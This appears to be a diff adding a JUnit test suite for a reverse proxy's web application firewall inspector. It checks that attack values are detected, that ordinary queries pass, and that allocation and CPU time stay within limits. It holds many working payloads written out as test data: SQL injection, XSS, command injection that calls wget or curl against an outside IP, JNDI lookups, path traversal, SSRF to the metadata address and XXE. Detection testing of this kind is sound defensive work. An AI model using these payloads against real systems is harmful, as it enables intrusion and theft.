@@ -1,0 +1,210 @@
+package phalanx.proxy.guard;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import com.sun.management.ThreadMXBean;
+import java.lang.management.ManagementFactory;
+import java.nio.charset.StandardCharsets;
+import java.util.BitSet;
+import java.util.Locale;
+import java.util.SplittableRandom;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import phalanx.proxy.guard.rules.Place;
+import phalanx.proxy.guard.rules.RuleBook;
+import phalanx.proxy.guard.rules.WafRule;
+import phalanx.proxy.http.Fields;
+import phalanx.proxy.http.RequestHead;
+
+/** What the built-in rules see and what they let pass, in process. */
+class InspectorTest {
+    private static final String AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
+    private static final long MOST_NANOS = 50_000_000;
+    private static final int HOSTILE_VALUES = 2_000; // 10,000 were tried once, up to 1 MiB
+
+    private final Inspector inspector = new Inspector(RuleBook.standard());
+    private final HeadWalk heads = new HeadWalk(inspector);
+    private final BodyWalk bodies = new BodyWalk(inspector, heads);
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '\t',
+            quoteCharacter = '~',
+            value = {
+                "sqli\tid=7%20union%20all%20select%20name,secret%20from%20staff",
+                "sqli\tname=x'%20or%20'a'%3D'a",
+                "sqli\tid=7;drop%20table%20staff",
+                "sqli\tname=root'--%20",
+                "sqli\tid=7%2526%2526sleep(9)",
+                "sqli\tid=7/**/UnIoN/**/sElEcT/**/1",
+                "xss\tq=<scr<script>ipt>go()</script>",
+                "xss\tq=%22%3E%3Cimg%20src=x%20onerror%3Dgo()%3E",
+                "xss\tq=%26%23x6a%3Bavascript%3Ago()",
+                "xss\tq=java%09script:go()",
+                "rce\thost=10.0.0.1;cat%20/var/tmp/x",
+                "rce\thost=a%0Awget%20http://198.51.100.7/x",
+                "rce\thost=$(id)",
+                "rce\thost=;c%27a%27t%20/x/y",
+                "rce\thost=|c%5Eu%5Erl%20http://198.51.100.7/",
+                "lfi\tfile=../../../../../srv/keys",
+                "lfi\tfile=..%252f..%252f..%252fsrv",
+                "lfi\tfile=%c0%ae%c0%ae%c0%afsrv",
+                "lfi\tfile=php://filter/read=x/resource=y",
+                "lookup\tx=${jndi:ldap://198.51.100.7/a}",
+                "lookup\tx=${${lower:j}ndi:rmi://198.51.100.7/a}",
+                "ssti\tx={{7*'7'}}",
+                "nosql\tuser[$ne]=x",
+                "deserialize\tx=rO0ABXNyABFqYXZhLnV0aWwu",
+                "ssrf\turl=http://169.254.169.254/latest/",
+                "split\tx=a%0d%0aSet-Cookie:%20b=c",
+                "ldap\tuser=*)(uid=*))(|(uid=*",
+                "sqli\tx=JyB1bmlvbiBzZWxlY3QgcGFzc3dvcmQgZnJvbSB1c2Vycw"
+            })
+    void attacks_in_a_query_are_seen(String category, String query) {
+        head("GET", "/find?" + query);
+        assertTrue(inspector.score() >= 5, query + " " + inspector.findings());
+        assertTrue(
+                inspector.findings().stream().anyMatch(f -> f.rule().category().equals(category)),
+                query + " " + inspector.findings());
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/",
+                "/a/b.html?x=1&y=2&z=hello+world",
+                "/find?q=O%27Neill%20and%20Sons",
+                "/find?q=select+a+gift+from+our+shop",
+                "/find?q=drop+the+table+near+the+union+station",
+                "/find?q=cat+and+mouse%3B+dogs",
+                "/find?q=5+%3C+7+and+9+%3E+8",
+                "/find?q=rock+%26+roll+-+live+(1999)",
+                "/find?mail=anna.b%40example.com&note=It%27s+fine%2C+don%27t+worry",
+                "/find?next=%2Faccount%3Ftab%3D2%26sort%3Dup",
+                "/find?price=%E2%82%AC+12%2C50&when=2026-11-22T10%3A00%3A00Z",
+                "/find?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcDEF123",
+                "/static/app.min.js?v=3f2a9c",
+                "/m%C3%BCller/stra%C3%9Fe"
+            })
+    void what_people_send_passes(String target) {
+        head("GET", target);
+        assertEquals(0, inspector.score(), () -> target + " " + inspector.findings());
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '\t',
+            quoteCharacter = '~',
+            value = {
+                "application/x-www-form-urlencoded\ta=1&b=x%27+or+1%3D1--+",
+                "application/json\t{\"a\":[{\"b\":\"x' or 1=1-- \"}]}",
+                "application/json\t{\"a\":\"\\u0078' or 1\\u003d1-- \"}",
+                "application/xml\t<a><b c=\"x' or 1=1-- \"/></a>",
+                "application/xml\t<a><![CDATA[x' or 1=1-- ]]></a>",
+                "text/plain\tx' or 1=1-- ",
+                "application/xml\t<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>",
+                "multipart/form-data; boundary=q\t--q|Content-Disposition: form-data; name=\"a\"||x' or 1=1-- |--q--|"
+            })
+    void attacks_in_bodies_are_seen(String type, String written) {
+        byte[] body = written.replace("|", "\r\n").getBytes(StandardCharsets.UTF_8);
+        inspector.begin(1, new BitSet());
+        bodies.body(type, body, body.length);
+        assertTrue(inspector.score() >= 5, inspector.findings().toString());
+    }
+
+    @Test
+    void a_finding_names_its_place_and_masks_what_may_be_somebody_s_own() {
+        head("GET", "/find?user=x%27+or+%27secret%27%3D%27secret");
+        Finding finding = inspector.findings().getFirst();
+        assertEquals(Place.QUERY, finding.place());
+        assertEquals("user", finding.name());
+        assertTrue(inspector.findings().stream().noneMatch(f -> f.fragment().contains("secret")), () -> inspector.findings().toString());
+    }
+
+    @Test
+    void excluded_rules_do_not_hold() {
+        BitSet sqli = new BitSet();
+        RuleBook.standard().rules().stream().filter(r -> r.category().equals("sqli")).forEach(r -> sqli.set(r.number()));
+        inspector.begin(1, sqli);
+        heads.head(request("GET", "/find?id=7%20union%20select%201"));
+        assertEquals(0, inspector.score());
+    }
+
+    @Test
+    void a_clean_request_allocates_next_to_nothing() {
+        RequestHead head = request("GET", "/a/b.html?x=1&y=hello+world&z=2026-11-22");
+        BitSet none = new BitSet();
+        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
+        long perRequest = Long.MAX_VALUE;
+        for (int round = 0; round < 4; round++) {
+            long before = threads.getCurrentThreadAllocatedBytes();
+            for (int i = 0; i < 10_000; i++) {
+                inspector.begin(1, none);
+                heads.head(head);
+            }
+            perRequest = Math.min(perRequest, (threads.getCurrentThreadAllocatedBytes() - before) / 10_000);
+        }
+        assertTrue(perRequest <= 64, perRequest + " octets a request");
+    }
+
+    @Test
+    void no_value_costs_more_than_50_ms() {
+        StringBuilder slow = new StringBuilder();
+        for (String unit : new String[] {
+            "'", "\"", "`", "((((", "[", "{\"a\":", "<a ", "<a on=", "=", "&#x", "%25", "%u", "\\u", "../", "${", "$(", ";", "|", "\n", "/*", "/*!", "--", "' or ",
+            "union select ", "select(", "chr(1).", "eval(", "QUJD", "javascript:", "c^a^t", "; ls ", "/bin/c?t ", "0x2e", "a,b;", "@{", "'%'"
+        }) {
+            hostile(unit, unit.repeat((1 << 20) / unit.length()), slow);
+        }
+        SplittableRandom random = new SplittableRandom(7);
+        String signs = "'\"`<>=()[]{}&;|$%#*/\\.,:@!-+ \n\tabceilnorstux0123456789";
+        for (int i = 0; i < HOSTILE_VALUES; i++) {
+            WafRule rule = RuleBook.standard().rules().get(random.nextInt(RuleBook.standard().rules().size()));
+            StringBuilder value = new StringBuilder();
+            int length = 16 << random.nextInt(i % 100 == 0 ? 13 : 6);
+            while (value.length() < length) {
+                if (!rule.literals().isEmpty() && random.nextInt(3) == 0) {
+                    value.append(rule.literals().get(random.nextInt(rule.literals().size())));
+                }
+                value.append(signs.charAt(random.nextInt(signs.length())));
+            }
+            hostile(rule.id() + " " + i, value.toString(), slow);
+        }
+        assertEquals("", slow.toString());
+    }
+
+    /** CPU time, the best of three: others may use the machine. */
+    private void hostile(String name, String value, StringBuilder slow) {
+        byte[] body = ("a=" + value).getBytes(StandardCharsets.ISO_8859_1);
+        long best = Long.MAX_VALUE;
+        for (int i = 0; i < 3 && best > MOST_NANOS; i++) {
+            long before = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
+            inspector.begin(4, new BitSet());
+            bodies.body("text/plain", body, body.length);
+            best = Math.min(best, ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() - before);
+        }
+        if (best > MOST_NANOS) {
+            slow.append(String.format(Locale.ROOT, "%s: %d ms%n", name, best / 1_000_000));
+        }
+    }
+
+    private void head(String method, String target) {
+        inspector.begin(1, new BitSet());
+        heads.head(request(method, target));
+    }
+
+    private static RequestHead request(String method, String target) {
+        Fields fields = new Fields()
+                .add("Host", "example.com")
+                .add("User-Agent", AGENT)
+                .add("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
+                .add("Accept-Language", "en-US,en;q=0.5")
+                .add("Accept-Encoding", "gzip, deflate, br")
+                .add("Cookie", "session=0a1b2c3d4e5f; theme=dark")
+                .add("Referer", "https://example.com/a?b=c&d=e");
+        return new RequestHead(method, target, 11, "http", "example.com", fields, 0, true, null);
+    }
+}
